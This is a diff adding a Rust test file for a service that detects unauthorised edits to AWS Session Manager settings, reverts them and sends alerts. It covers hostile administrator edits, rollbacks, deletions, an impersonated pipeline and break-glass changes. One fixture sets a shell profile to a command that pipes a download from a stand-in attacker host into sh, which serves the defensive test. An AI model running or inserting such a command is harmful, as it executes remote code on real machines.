@@ -1,0 +1,198 @@
+//! Edits: undone or kept, field by field, and told with who did what and what was done about it.
+
+use serde_json::{Value, json};
+
+use super::queue::{Told, kinds};
+use super::stage::{FRANKFURT, HOME, PAYMENTS, SEARCH, Stage};
+use crate::support::lambda::Lambda;
+
+const LOG_GROUP: &str = "AWSAccelerator-sessionmanager-logs";
+const NEW_LOG_GROUP: &str = "AWSAccelerator-sessions-2027";
+
+/// What LZA creates: logging, and Run As off.
+pub(super) fn lza_inputs() -> Value {
+    json!({
+        "cloudWatchLogGroupName": LOG_GROUP, "cloudWatchEncryptionEnabled": true, "cloudWatchStreamingEnabled": true,
+        "s3BucketName": "", "s3KeyPrefix": "", "s3EncryptionEnabled": true, "kmsKeyId": "",
+        "runAsEnabled": false, "runAsDefaultUser": "",
+    })
+}
+
+/// A target that LZA has set up and the reactor has put right.
+fn governed(account: &str, region: &str) -> (Stage, Lambda) {
+    let stage = Stage::set();
+    stage.pipeline(account).creates(region, &lza_inputs());
+    let lambda = stage.lambda();
+    stage.prepare(&lambda, &[(account, region)]);
+    stage.assert_right(account, region);
+    assert_eq!(stage.document(account, region).latest(), 2, "ours on top of LZA's");
+    (stage, lambda)
+}
+
+fn only(stage: &Stage) -> Told {
+    let told = stage.told();
+    let [only] = &told[..] else { panic!("one alert, and not {told:#?}") };
+    only.clone()
+}
+
+#[test]
+fn an_administrators_edit_is_undone_and_told_with_who_what_and_what_was_done() {
+    let (stage, lambda) = governed(PAYMENTS, HOME);
+    let alice = stage.administrator(PAYMENTS, "alice@example.com");
+    let profile = json!({"linux": "curl -s https://evil.example/x | sh", "windows": ""});
+    let edit = json!({"runAsEnabled": false, "idleSessionTimeout": null, "shellProfile": profile});
+    assert_eq!(alice.edits(HOME, &edit), 3);
+    stage.settle(&lambda);
+
+    stage.assert_right(PAYMENTS, HOME);
+    let document = stage.document(PAYMENTS, HOME);
+    assert_eq!((document.default(), document.latest()), (4, 4));
+    assert_eq!(document.inputs()["cloudWatchLogGroupName"], LOG_GROUP, "not ours, and kept");
+    assert_eq!(document.inputs()["shellProfile"], Value::Null, "not ours, and taken out again");
+
+    let told = only(&stage);
+    assert_eq!((told.kind().as_str(), told.severity().as_str()), ("edit_reverted", "high"));
+    assert_eq!(told.subject, "Run As 333344445555/eu-west-1: alice@example.com wrote version 3: reverted");
+    told.assert_says(&[
+        "payments (333344445555)",
+        "alice@example.com (not trusted, ",
+        &alice.role,
+        "runAsEnabled: true -> false",
+        "idleSessionTimeout: \"15\" -> (none)",
+        "shellProfile: (none) -> {\"linux\":\"curl",
+        "put right as version 4",
+    ]);
+    for (name, expected) in [("severity", "high"), ("kind", "edit_reverted"), ("account", PAYMENTS), ("region", HOME)] {
+        assert_eq!(told.attributes[name]["Value"], expected, "subscriptions filter by {name}");
+    }
+    let data = &told.body["data"];
+    assert_eq!(
+        (&told.body["schema_version"], &data["done"], &data["count"]),
+        (&json!(1), &json!("reverted"), &json!(1))
+    );
+    assert_eq!(data["edits"][0]["principal"]["arn"], json!(alice.role));
+    assert_eq!(data["edits"][0]["principal"]["name"], "alice@example.com");
+    let changed: Vec<&Value> = data["edits"][0]["changed"].as_array().unwrap().iter().map(|c| &c["field"]).collect();
+    assert_eq!(changed, ["idleSessionTimeout", "runAsEnabled", "shellProfile"]);
+}
+
+#[test]
+fn an_edit_that_leaves_the_default_version_alone_is_undone_as_well() {
+    let (stage, lambda) = governed(SEARCH, HOME);
+    let alice = stage.administrator(SEARCH, "alice@example.com");
+    alice.writes(HOME, &json!({"runAsDefaultUser": "root2"}));
+    stage.settle(&lambda);
+    stage.assert_right(SEARCH, HOME);
+    only(&stage).assert_says(&["alice@example.com", "runAsDefaultUser: \"prodops\" -> \"root2\""]);
+}
+
+#[test]
+fn a_rolled_back_default_version_is_put_forward_again_without_a_new_version() {
+    let (stage, lambda) = governed(PAYMENTS, FRANKFURT);
+    let mallory = stage.administrator(PAYMENTS, "mallory@example.com");
+    mallory.promotes(FRANKFURT, 1);
+    stage.settle(&lambda);
+    stage.assert_right(PAYMENTS, FRANKFURT);
+    assert_eq!(stage.document(PAYMENTS, FRANKFURT).latest(), 2);
+    let told = only(&stage);
+    assert_eq!((told.kind().as_str(), told.severity().as_str()), ("edit_reverted", "high"));
+    told.assert_says(&["mallory@example.com", "made version 1 the default", "made version 2 the default again"]);
+}
+
+#[test]
+fn a_deleted_document_comes_back_with_the_fields_of_others() {
+    let (stage, lambda) = governed(SEARCH, FRANKFURT);
+    stage.administrator(SEARCH, "mallory@example.com").deletes(FRANKFURT);
+    assert!(stage.find(SEARCH, FRANKFURT).is_none());
+    stage.settle(&lambda);
+    stage.assert_right(SEARCH, FRANKFURT);
+    assert_eq!(stage.document(SEARCH, FRANKFURT).inputs()["cloudWatchLogGroupName"], LOG_GROUP, "from memory");
+    let told = only(&stage);
+    assert_eq!((told.kind().as_str(), told.severity().as_str()), ("edit_reverted", "high"));
+    told.assert_says(&["mallory@example.com", "deleted the document", "created the document again"]);
+}
+
+#[test]
+fn what_a_pipeline_wrote_is_kept_where_it_is_not_ours_and_nobody_is_paged() {
+    let (stage, lambda) = governed(PAYMENTS, HOME);
+    // LZA carries over what the default version says, drops what it does not know, and leaves the default where it is.
+    let edit = json!({"cloudWatchLogGroupName": NEW_LOG_GROUP, "idleSessionTimeout": null});
+    stage.pipeline(PAYMENTS).writes(HOME, &edit);
+    stage.settle(&lambda);
+    stage.assert_right(PAYMENTS, HOME);
+    let document = stage.document(PAYMENTS, HOME);
+    assert_eq!(document.inputs()["cloudWatchLogGroupName"], NEW_LOG_GROUP);
+    let told = only(&stage);
+    assert_eq!(told.severity(), "info");
+    told.assert_says(&["trusted", "AWSAccelerator-", NEW_LOG_GROUP]);
+    assert_eq!(stage.rows_of(PAYMENTS, "INCIDENT#").len(), 0);
+}
+
+#[test]
+fn a_session_that_is_called_like_the_pipeline_is_not_the_pipeline() {
+    let (stage, lambda) = governed(PAYMENTS, HOME);
+    let mallory = stage.administrator(PAYMENTS, "AWSAccelerator-SessionManagerSettings");
+    mallory.edits(HOME, &json!({"cloudWatchLogGroupName": "mallorys-logs"}));
+    stage.settle(&lambda);
+    assert_eq!(stage.document(PAYMENTS, HOME).inputs()["cloudWatchLogGroupName"], LOG_GROUP);
+    assert_eq!(only(&stage).severity(), "high");
+}
+
+/// Mallory sends sessions to a bucket of her own; right after, the pipeline reads, changes the log group, and writes the
+/// bucket back along with it. The two events come to the function in these batches.
+fn hostile_before_trusted(batches: &[&[usize]]) -> Vec<Told> {
+    let (stage, lambda) = governed(SEARCH, HOME);
+    let mallory = stage.administrator(SEARCH, "mallory@example.com");
+    mallory.writes(HOME, &json!({"s3BucketName": "mallorys-bucket", "runAsEnabled": false}));
+    stage.pipeline(SEARCH).writes(HOME, &json!({"cloudWatchLogGroupName": NEW_LOG_GROUP}));
+    let events = stage.events();
+    assert_eq!(events.len(), 2);
+    for batch in batches {
+        stage.deliver(&batch.iter().map(|at| events[*at].clone()).collect::<Vec<_>>());
+        assert_eq!(stage.pump(&lambda), 0);
+    }
+    stage.settle(&lambda);
+    stage.assert_right(SEARCH, HOME);
+    let inputs = stage.document(SEARCH, HOME).inputs();
+    assert_eq!(inputs["s3BucketName"], "", "not laundered");
+    assert_eq!(inputs["cloudWatchLogGroupName"], NEW_LOG_GROUP, "the pipeline's own change is kept");
+    let told = stage.told();
+    let text: String = told.iter().map(Told::text).collect();
+    assert!(
+        text.contains("mallory@example.com") && text.contains("s3BucketName: \"\" -> \"mallorys-bucket\""),
+        "{text}"
+    );
+    assert!(told.iter().any(|told| told.severity() == "high"), "{told:#?}");
+    told
+}
+
+#[test]
+fn a_hostile_edit_is_not_laundered_by_a_trusted_one_in_the_same_batch() {
+    let told = hostile_before_trusted(&[&[0, 1]]);
+    assert_eq!(kinds(&told), ["edit_reverted"], "one story, one alert");
+}
+
+#[test]
+fn a_hostile_edit_is_not_laundered_where_its_event_comes_first() {
+    hostile_before_trusted(&[&[0], &[1]]);
+}
+
+#[test]
+fn a_hostile_edit_is_not_laundered_where_its_event_comes_last() {
+    let told = hostile_before_trusted(&[&[1], &[0]]);
+    assert!(kinds(&told).contains(&"author_known".to_owned()), "{told:#?}");
+}
+
+#[test]
+fn a_break_glass_edit_stands_for_a_while_and_is_told_at_once() {
+    let (stage, lambda) = governed(PAYMENTS, HOME);
+    stage.break_glass(PAYMENTS, "carol@example.com").edits(HOME, &json!({"runAsEnabled": false}));
+    stage.settle(&lambda);
+    let document = stage.document(PAYMENTS, HOME);
+    assert_eq!((document.latest(), &document.inputs()["runAsEnabled"]), (3, &json!(false)), "left alone");
+    let told = only(&stage);
+    assert_eq!((told.kind().as_str(), told.severity().as_str()), ("break_glass", "high"));
+    told.assert_says(&["carol@example.com", "break-glass", "left as it is until"]);
+    assert_eq!(stage.queued(), [0, 1, 0], "looked at again when the hold ends");
+    assert_eq!(stage.rows_of(PAYMENTS, "REGION#")["REGION#eu-west-1"]["attention"], "held");
+}
